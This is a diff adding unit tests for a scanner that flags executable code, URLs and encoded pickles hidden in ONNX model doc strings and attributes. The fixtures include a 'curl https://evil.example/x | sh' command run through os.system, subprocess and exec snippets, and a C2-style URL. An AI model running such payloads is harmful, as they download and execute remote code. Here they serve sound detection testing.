@@ -147,3 +147,63 @@ describe('model/onnx-graph: reader problems are findings, never a clean verdict'
     expect(result).toContain('moreFindings:medium');
   });
 });
+
+describe('model/onnx-graph: doc strings and string attributes get the metadata text checks', () => {
+  it('the real docstring-code.onnx (onnx 1.12): code in a node doc_string is high, the URLs low', () => {
+    const result = findings(fixture('docstring-code.onnx'));
+    expect(result.map((f) => `${f.messageId}:${f.severity}:${f.location.jsonPath}`)).toEqual([
+      'metadataCode:high:$.small/add.doc_string',
+      'metadataUrl:low:$.small/add.doc_string',
+      'metadataUrl:low:$.small/add:comment',
+    ]);
+    expect(result[0]?.evidence.excerpt).toContain("os.system('curl -s https://evil.example/x | sh')");
+  });
+  const graphWith = (nodes: BuildOnnxOptions['graph']) => buildOnnx({ graph: { ...SMALL_GRAPH, ...nodes } });
+  it('exporter-style doc strings and ordinary string attributes stay info', () => {
+    const bytes = buildOnnx({
+      docString: 'Exported from PyTorch 2.1 for inference.',
+      graph: {
+        ...SMALL_GRAPH,
+        docString: 'main graph',
+        nodes: [
+          { op: 'Pad', name: 'pad', strings: { mode: 'constant' }, docString: '/usr/lib/python3/dist-packages/torch/nn/functional.py(4495): pad\n' },
+          { op: 'Resize', name: 'up', strings: { mode: 'nearest', coordinate_transformation_mode: 'asymmetric' } },
+        ],
+      },
+    });
+    const result = findings(bytes);
+    expect(brief(result)).toEqual(['validModel:info']);
+    expect(result[0]?.evidence.details).toMatchObject({ texts: 6 });
+  });
+  const cases: [string, Buffer, string[], string][] = [
+    ['code in the model doc_string is high', buildOnnx({ docString: "import os\nos.system('curl https://evil.example/x | sh')" }), ['metadataCode:high', 'metadataUrl:low'], '$.doc_string'],
+    ['code in a graph doc_string is high', graphWith({ docString: "__import__('subprocess').run(['id'])" }), ['metadataCode:high'], '$.small.doc_string'],
+    ['code in a node doc_string is high', graphWith({ nodes: [{ op: 'Relu', name: 'relu', docString: "eval(compile(src, 'x', 'exec'))" }] }), ['metadataCode:high'], '$.small/relu.doc_string'],
+    ['a base64 blob in a string attribute is medium', graphWith({ nodes: [{ op: 'Custom', domain: '', name: 'c', strings: { blob: Buffer.alloc(300, 7).toString('base64') } }] }), ['metadataBlob:medium'], '$.small/c:blob'],
+    ['a base64-encoded pickle in a string attribute is high', graphWith({ nodes: [{ op: 'Identity', name: 'id', strings: { payload: Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(300, 0x41)]).toString('base64') } }] }), ['metadataCode:high'], '$.small/id:payload'],
+    ['a URL in a string-list attribute is low', graphWith({ nodes: [{ op: 'Identity', name: 'id', strings: { sources: ['a', 'https://evil.example/c2'] } }] }), ['metadataUrl:low'], '$.small/id:sources'],
+    ['code in a function doc_string is high', buildOnnx({ functions: [{ name: 'F', domain: 'local', nodes: [{ op: 'Relu' }], docString: 'import subprocess' }] }), ['metadataCode:high'], '$.function:local.F.doc_string'],
+  ];
+  it.each(cases)('%s', (_name, bytes, expected, path) => {
+    const result = findings(bytes);
+    expect(brief(result)).toEqual(expected);
+    expect(result[0]?.location.jsonPath).toBe(path);
+  });
+  it('code in a subgraph node is found, and the finding says where', () => {
+    const graph = { name: 'g', nodes: [{ op: 'If', name: 'if', graphs: { then_branch: { nodes: [{ op: 'Relu', name: 'inner', docString: 'exec(payload)' }] } } }] };
+    const [finding] = findings(buildOnnx({ graph }));
+    expect(finding?.message).toBe('code in node "inner" doc_string: eval() or exec()');
+    expect(finding?.location.jsonPath).toBe('$.g/if:then_branch/inner.doc_string');
+  });
+  it('the same text on many nodes is one finding that counts the other places', () => {
+    const nodes = Array.from({ length: 40 }, (_, i) => ({ op: 'Relu', name: `r${i}`, docString: 'os.system("id")' }));
+    const result = findings(graphWith({ nodes }));
+    expect(brief(result)).toEqual(['metadataCode:high']);
+    expect(result[0]?.message).toContain('(and 39 more places)');
+  });
+  it('a doc string longer than what is checked is medium: the rest was not looked at', () => {
+    const result = findings(buildOnnx({ docString: `${'a '.repeat(40_000)}` }));
+    expect(brief(result)).toEqual(['textNotChecked:medium']);
+    expect(result[0]?.evidence.details).toMatchObject({ bytes: 80_000, checked: 65_536 });
+  });
+});
